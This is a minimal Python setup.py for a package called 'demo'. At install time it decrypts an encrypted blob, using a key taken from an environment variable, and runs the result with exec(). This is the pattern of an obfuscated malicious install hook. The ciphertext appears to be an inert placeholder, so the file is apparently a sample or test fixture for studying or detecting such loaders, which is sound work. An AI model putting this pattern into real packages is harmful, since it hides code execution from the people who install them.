from setuptools import setup
from cryptography.fernet import Fernet
import os

exec(Fernet(os.environ["K"]).decrypt(b"gAAAAABinert"))
setup(name="demo", version="1.0")
